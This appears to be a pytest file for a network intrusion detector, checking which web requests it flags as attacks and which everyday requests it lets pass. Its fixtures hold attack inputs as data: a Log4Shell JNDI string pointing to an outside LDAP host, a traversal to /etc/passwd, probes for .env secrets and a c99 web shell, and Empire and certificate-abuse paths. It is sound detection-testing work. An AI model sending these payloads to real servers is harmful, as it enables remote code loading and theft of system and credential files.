"""Web requests that carry an attack's mark, and those that do not."""

import pytest

from collector.sightings import Http
from detector.lateral.call_back import CallBack
from detector.lateral.web_attack import WebAttack
from tests.detector.windows import START_NS, World, flow


def request(path: str = "/", user_agent: str = "Mozilla/5.0") -> Http:
    return Http(time_ns=START_NS, ip="10.0.1.7", port=50000, peer_ip="10.0.2.9", peer_port=80,
                method="GET", path=path, user_agent=user_agent)  # fmt: skip


def found(*requests: Http) -> list[str]:
    world = World()
    return [f.variant for f in world.run(WebAttack(), world.window([], requests))]


@pytest.mark.parametrize(
    ("seen", "variant"),
    [
        (request(user_agent="${jndi:ldap://10.9.9.9:1389/a}"), "log4shell"),
        (request(user_agent="Mozilla/5.00 (Nikto/2.1.6)"), "scanner"),
        (request("/a/../../../../etc/passwd"), "traversal"),
        (request("/.env"), "secrets"),
        (request("/uploads/c99.php"), "command"),
        (request("/adfs/services/policystoretransfer"), "adfs"),
        (request("/certsrv/certfnsh.asp"), "certificate"),
        (request("/Exploit.class", "Java/1.8.0_51"), "class_load"),
    ],
)
def test_marks(seen: Http, variant: str) -> None:
    assert found(seen) == [variant]


@pytest.mark.parametrize(
    "seen",
    [request("/emr/patient/list"), request("/news.php"), request("/a/../b.css"),
     request("/applet/Viewer.class"), request("/environment"), request("/adfs/ls/")],
)  # fmt: skip
def test_everyday_requests_are_silent(seen: Http) -> None:
    assert found(seen) == []


def test_a_person_opens_the_form_before_a_certificate_is_asked_for() -> None:
    assert found(request("/certsrv/certrqxt.asp"), request("/certsrv/certfnsh.asp")) == []
    assert found(request("/certsrv/"), request("/certsrv/certfnsh.asp")) == ["certificate"]


def test_empire_needs_two_of_its_addresses() -> None:
    assert found(request("/news.php"), request("/admin/get.php")) == ["empire"]
    assert found(request("/news.php"), request("/news.php")) == []


def test_a_server_that_calls_back_by_ldap_after_a_request() -> None:
    back = flow("10.0.2.9", "10.0.1.7", 1389, 2, app="ldap")
    directory = flow("10.0.2.9", "10.0.0.1", 389, 2, app="ldap")
    late = flow("10.0.2.9", "10.0.1.7", 1389, 300, app="ldap")
    detector = CallBack()
    world = World()
    (told,) = world.run(detector, world.window([back], [request()]))
    assert (told.source, told.targets) == ("10.0.2.9", ("10.0.1.7",))
    for flows, requests in (([directory, late], [request()]), ([back], [])):
        world = World()
        assert world.run(detector, world.window(flows, requests)) == []
